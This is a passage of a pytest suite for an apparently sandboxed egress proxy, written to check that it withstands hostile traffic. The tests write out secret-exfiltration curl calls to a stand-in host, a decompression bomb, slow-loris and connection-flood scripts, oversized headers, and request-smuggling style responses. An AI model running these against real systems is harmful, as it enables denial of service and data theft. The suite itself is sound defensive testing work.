        "--data-binary", f"@/b/{name}", f"{UP}/echo?{name}"]) + "; grep -o sha256 /tmp/out; rm -f /tmp/out"
        for name, (_, words) in many.items()]
    said = online.sh(OPEN, "\n".join(lines) + "\n:", options=("-v", f"{folder}:/b:ro")).ok()
    assert "sha256" not in said, said
    answers = dict(line.split() for line in said.splitlines())
    assert {name: code for name, code in answers.items() if code not in ("403", "000")} == {}
    told = online.events(type="http", why="secret")
    assert sum(e.get("count", 1) for e in told) == len(many), online.events()


def test_a_credential_that_a_rule_permits(online):
    rules = "  - allow: up.example.test\n    secrets: allow\n"
    done = online.curl(rules, "-d", TOKENS["private-key"], f"{UP}/echo")
    assert json.loads(done.ok())["size"] > 100


@pytest.mark.parametrize("coding", ["gzip", "br", "zstd"])
def test_a_decompression_bomb(cell, coding):
    """Refused, and no memory spent on it."""
    zeros = bytes(100 << 20)
    if coding == "gzip":
        data = gzip.compress(zeros, 9)
    elif coding == "br":
        data = pytest.importorskip("brotli").compress(zeros)
    else:
        data = pytest.importorskip("zstandard").compress(zeros)
    # The cell is already there: the bomb is fetched from the world.
    name = f"bomb.{coding}"
    cell.lab.file(name, data)
    done = cell.inside("sh", "-c", f"{' '.join(CURL)} -o /tmp/bomb https://www.example.test/{name} && "
                       f"{' '.join(CURL)} -o /dev/null -w '%{{http_code}}' -H 'Content-Encoding: {coding}' "
                       f"-H 'Content-Type: application/json' --data-binary @/tmp/bomb {UP}/echo")
    assert done.out == "403", done
    for helper, pid in helpers_of(cell.operator, cell.cell).items():
        peak = int(next(line.split()[1] for line in open(f"/proc/{pid}/status") if line.startswith("VmHWM")))
        assert peak < 100 << 10 or not IS_STATIC, (helper, peak)


# ---- slowness and size ----------------------------------------------------------------------------

def test_slow_loris(cell):
    """Connections that never say all of it do not keep others out."""
    script = """
import socket, subprocess, sys, time
many = []
for i in range(300):
    s = socket.create_connection(('up.example.test', 443 if i % 2 else 80), 10)
    s.sendall(b'GET /echo HTTP/1.1\\r\\nHost: up' if i % 2 == 0 else b'\\x16\\x03\\x01\\x02\\x00\\x01')
    many.append(s)
done = subprocess.run(sys.argv[1:], capture_output=True)
print(done.stdout.decode())
for s in many:
    try: s.sendall(b'x')
    except OSError: pass
"""
    assert "200" in python(cell, script, *CURL, *CODE, f"{UP}/echo")


def test_oversized_heads(cell):
    answers = send_all(cell, {
        "target": b"GET /" + b"a" * 200_000 + b" HTTP/1.1\r\n" + H + b"\r\n",
        "value": b"GET /echo HTTP/1.1\r\n" + H + b"X: " + b"a" * 200_000 + b"\r\n\r\n",
        "fields": b"GET /echo HTTP/1.1\r\n" + H + b"".join(b"X-%d: y\r\n" % i for i in range(5000)) + b"\r\n",
        "name": b"GET /echo HTTP/1.1\r\n" + H + b"X" * 200_000 + b": y\r\n\r\n",
        "line": b"A" * 300_000,
        "chunk-size": b"POST /echo HTTP/1.1\r\n" + H + b"Transfer-Encoding: chunked\r\n\r\n" + b"0" * 300_000,
        "trailers": b"POST /echo HTTP/1.1\r\n" + H + b"Transfer-Encoding: chunked\r\n\r\n0\r\n" +
                    b"".join(b"X-%d: y\r\n" % i for i in range(5000)) + b"\r\n"})
    for name, came in answers.items():
        assert not came or came.split(b" ")[1] in (b"400", b"414", b"431", b"502"), (name, came[:100])


def test_a_flood_of_connections(cell):
    script = """
import socket
many = []
for i in range(3000):
    s = socket.socket()
    s.setblocking(False)
    try: s.connect(('93.184.216.10', 443))
    except BlockingIOError: pass
    except OSError: break
    many.append(s)
    if len(many) > 500:
        many.pop(0).close()
print('done')
"""
    assert python(cell, script) == "done\n"


def test_many_names(cell):
    """More than there is room for: new ones are refused, and those that are known go on."""
    assert cell.inside(*CURL, *CODE, "https://www.example.test/hello").ok() == "200"
    script = """
import socket
n = 0
for i in range(5000):
    try:
        socket.getaddrinfo(f'n{i}.example.test', 443, socket.AF_INET)
        n += 1
    except OSError:
        pass
print(4000 < n < 5000)
"""
    assert python(cell, script, seconds=120) == "True\n"


# ---- hostile servers --------------------------------------------------------------------------------

ANSWERS = {
    "no-status": b"nonsense\r\n\r\n",
    "status-0": b"HTTP/1.1 0 x\r\n\r\n",
    "status-1000": b"HTTP/1.1 1000 x\r\n\r\n",
    "two-lengths": b"HTTP/1.1 200 x\r\nContent-Length: 3\r\nContent-Length: 5\r\n\r\nhello",
    "length-and-chunked": b"HTTP/1.1 200 x\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n",
    "bare-lf": b"HTTP/1.1 200 x\nContent-Length: 5\n\nhello",
    "folded": b"HTTP/1.1 200 x\r\nX: a\r\n b\r\nContent-Length: 5\r\n\r\nhello",
    "nul": b"HTTP/1.1 200 x\r\nX: a\x00b\r\nContent-Length: 5\r\n\r\nhello",
    "huge-head": b"HTTP/1.1 200 x\r\nX: " + b"a" * 300_000 + b"\r\n\r\n",
    "many-fields": b"HTTP/1.1 200 x\r\n" + b"".join(b"X-%d: y\r\n" % i for i in range(5000)) + b"\r\n",
    "many-100s": b"HTTP/1.1 100 x\r\n\r\n" * 2000 + b"HTTP/1.1 200 x\r\nContent-Length: 5\r\n\r\nhello",
    "101": b"HTTP/1.1 101 x\r\nConnection: upgrade\r\nUpgrade: websocket\r\n\r\nhello",
    "bad-chunk": b"HTTP/1.1 200 x\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\nhello\r\n0\r\n\r\n",
    "two-answers": b"HTTP/1.1 200 x\r\nContent-Length: 5\r\n\r\nhelloHTTP/1.1 200 x\r\nContent-Length: 4\r\n\r\nevil",
}


def test_hostile_answers(cell):
    for name, data in ANSWERS.items():
        done = cell.inside(*CURL, "--http1.1", "-w", "\n%{http_code}", UP + cell.lab.raw(data))
        body, _, code = done.out.rpartition("\n")
        assert "evil" not in body, name
        if name in ("two-answers", "many-100s"):
            assert code in ("200", "502", "403", "000"), (name, done)
        elif name == "bad-chunk":
            assert done.status != 0 or code in ("502", "403"), (name, done)
        else:
            assert code in ("502", "403", "000"), (name, done)
        # The next request does not get what was left of it.
        assert cell.inside(*CURL, f"{UP}/echo").ok().startswith('{"method"'), name


CHUNKS = b"HTTP/1.1 200 x\r\nTransfer-Encoding: chunked\r\n"
# What curl reads without a proxy, too: it goes on in the strict form.
BORNE = {
    "chunk-extension": CHUNKS + b'\r\n5;a=b;c="d;e"\r\nhello\r\n0;x\r\n\r\n',
    "chunk-blanks": CHUNKS + b"\r\n5   \r\nhello\r\n0\t\r\n\r\n",
    "lengths-same": b"HTTP/1.1 200 x\r\nContent-Length: 5\r\nContent-Length: 5\r\n\r\nhello",
    "length-list": b"HTTP/1.1 200 x\r\nContent-Length: 5, 5\r\n\r\nhello",
    "identity": b"HTTP/1.1 200 x\r\nTransfer-Encoding: identity\r\nContent-Length: 5\r\n\r\nhello",
    "coding-none": b"HTTP/1.1 200 x\r\nContent-Encoding: none\r\nContent-Length: 5\r\n\r\nhello",
    "close": b"HTTP/1.1 200 x\r\nConnection: close\r\nContent-Length: 5\r\n\r\nhello",
}


@pytest.mark.parametrize("scheme", ["http", "https"])
def test_odd_answers_that_can_be_read_in_one_way_only(cell, scheme):
    for name, data in BORNE.items():
        for _ in range(2):
            done = cell.inside(*CURL, "--http1.1", "-i", f"{scheme}://up.example.test{cell.lab.raw(data)}")
            head, _, body = done.out.replace("\r", "").partition("\n\n")
            assert done.status == 0 and body == "hello", (name, done)
            assert head.lower().count("content-length") + head.lower().count("transfer-encoding") == 1, (name, head)


def test_an_answer_that_is_broken_is_not_taken_for_another_scheme(online):
    for data, cause in ((b"HTTP/1.1 200 x\r\nContent-Length: 3\r\nContent-Length: 5\r\n\r\nhello", "content-length"),
                        (b"HTTP/1.1 200 x\r\nX: a\r\n b\r\n\r\n", "folded")):
        url = f"http://host.cloister.internal:8000{online.lab.raw(data)}"
        done = online.curl("  - allow: host.cloister.internal:8000\n", url)
        said = json.loads(done.out)
        assert cause in said["reason"] and "http" not in said["hint"], said


def test_answers_that_are_not_http_at_all(cell):
    """A port where something else speaks."""
    done = cell.inside(*CURL, "--max-time", "10", *CODE, "http://up.example.test:7/")
    assert done.out in ("502", "403", "000")


# ---- other protocols -----------------------------------------------------------------------------------

def test_bytes_that_are_not_http_are_refused(cell):
    script = """
import socket
for data in (b'SSH-2.0-x\\r\\n', b'\\x00' * 100, b'EHLO x\\r\\n', b'\\x16\\x03\\x00\\x00\\x02\\x00\\x00', b''):
    s = socket.create_connection(('up.example.test', 7), 10)
    s.settimeout(12)
    try:
        s.sendall(data)
        s.shutdown(socket.SHUT_WR)
        got = s.recv(100)
        print(got[:12])
    except OSError as e:
        print(type(e).__name__)
"""
    said = python(cell, script, seconds=90)
    assert "welcome" not in said, said


HALVES = """
import resource, socket, subprocess, sys
resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
head = b'POST /echo HTTP/1.1\\r\\nHost: up.example.test\\r\\nContent-Length: 100\\r\\n\\r\\nhalf'
held = []
address = socket.getaddrinfo('up.example.test', 80, socket.AF_INET, socket.SOCK_STREAM)[0][4]
for i in range(1500):
    s = socket.socket()
    s.setblocking(False)
    s.connect_ex(address)
    held.append(s)
for s in held:
    try:
        s.send(head)
    except OSError:
        pass
print(subprocess.run(sys.argv[1:], capture_output=True, text=True).stdout)
"""


def test_requests_that_are_never_finished(cell):
    """As many as there is room for, and more: they give way to the next that is whole."""
    said = python(cell, HALVES, *CURL, "--max-time", "100", "-w", "%{http_code}", "http://up.example.test/204",
                  seconds=120)
    assert said.strip() == "204"
